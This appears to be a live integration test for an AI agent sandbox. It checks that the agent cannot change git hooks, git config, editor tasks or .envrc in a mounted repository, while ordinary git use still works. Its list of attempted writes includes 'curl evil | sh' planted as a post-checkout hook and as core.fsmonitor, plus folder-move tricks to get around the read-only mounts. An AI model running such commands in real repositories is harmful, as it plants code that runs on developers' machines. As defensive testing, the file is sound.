/**
 * Protected workspace paths on the real engine, deployed by the real Pulumi CLI with the policy pack: in a
 * git repository mounted read-write, the agent user cannot plant a hook, change the git config or edit an
 * editor task, git still works for ordinary use, and the host workspace gains no mount point.
 */
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sandboxObjectNames } from "../../components/engine/naming";
import { execIn } from "../../testkit/live/engine";
import { type HostService, liveConfig, PROJECT, sandboxEntry, startHostService } from "../../testkit/live/live-program";
import { POLICY_PACK, PulumiGate, REGISTRY_BASE_IMAGES, RealStack } from "../../testkit/live/pulumi-cli";
import { agentRepository, hostGit } from "../../testkit/live/workspace-files";

const STACK = `protect-${process.pid}`;
const CONTAINER = sandboxObjectNames({ project: PROJECT, stack: STACK }, "main").container;
const GIT = "git -c user.name=agent -c user.email=agent@example.com";

const gate = new PulumiGate();
let probe: HostService;
let workspace: string;
let stack: RealStack | undefined;

const fileHash = (file: string) =>
  createHash("sha256")
    .update(fs.readFileSync(path.join(workspace, file)))
    .digest("hex");
const git = (...args: string[]) => hostGit(workspace, ...args);

describe("protected workspace paths (live)", () => {
  beforeAll(async () => {
    if (!(await gate.ready())) return;
    probe = await startHostService("probe-ok\n");
    workspace = agentRepository("agent-sandbox-protect-", { ".envrc": "export SAFE=1\n", ".vscode/tasks.json": '{"tasks": []}\n' });
    stack = await RealStack.create(STACK);
    stack.setConfig(liveConfig({ image: REGISTRY_BASE_IMAGES, sandboxes: [sandboxEntry({ name: "main", workspace, probe })] }));
  });

  afterAll(async () => {
    await stack?.remove();
    await probe?.close();
    if (workspace) fs.rmSync(workspace, { recursive: true, force: true });
  });

  it("refuses the agent's writes to hooks, git config and editor tasks, keeps git working, and creates no mount point", async (context) => {
    gate.requireCli(context);
    const before = { config: fileHash(".git/config"), tasks: fileHash(".vscode/tasks.json"), hooks: fs.readdirSync(path.join(workspace, ".git/hooks")).sort() };
    await stack!.pulumi(["up", "--yes", "--skip-preview", "--policy-pack", POLICY_PACK]);

    for (const attempt of [
      "echo 'curl evil | sh' > .git/hooks/post-checkout",
      "git config core.fsmonitor 'curl evil | sh'",
      "echo '{}' > .vscode/tasks.json",
      "echo 'export EVIL=1' >> .envrc",
      // Moving a protected path's folder aside and planting a fresh one would bypass the read-only mounts.
      "mv .git .git-aside",
      "mv .vscode .vscode-aside",
    ]) {
      const result = await execIn(CONTAINER, `cd /workspace && ${attempt}`);
      expect({ attempt, exitCode: result.exitCode === 0 ? 0 : "refused" }).toEqual({ attempt, exitCode: "refused" });
      expect(result.output).toMatch(/Read-only file system|Device or resource busy/);
    }

    const work = await execIn(
      CONTAINER,
      `cd /workspace && echo hello > notes.txt && ${GIT} add notes.txt && ${GIT} commit -q -m notes && ${GIT} branch review && ${GIT} status --short && ${GIT} log --oneline | wc -l`,
    );
    expect(work, work.output).toMatchObject({ exitCode: 0 });
    expect(work.output.trim()).toBe("2");

    expect({
      config: fileHash(".git/config"),
      tasks: fileHash(".vscode/tasks.json"),
      hooks: fs.readdirSync(path.join(workspace, ".git/hooks")).sort(),
    }).toEqual(before);
    expect(git("log", "--format=%s", "review")).toBe("notes\nstart");
    // Only existing paths are mounted: Docker made no mount point for the missing ones.
    for (const missing of [".devcontainer", ".github", ".gitmodules", ".mcp.json", ".claude"])
      expect(fs.existsSync(path.join(workspace, missing)), missing).toBe(false);
  });
});
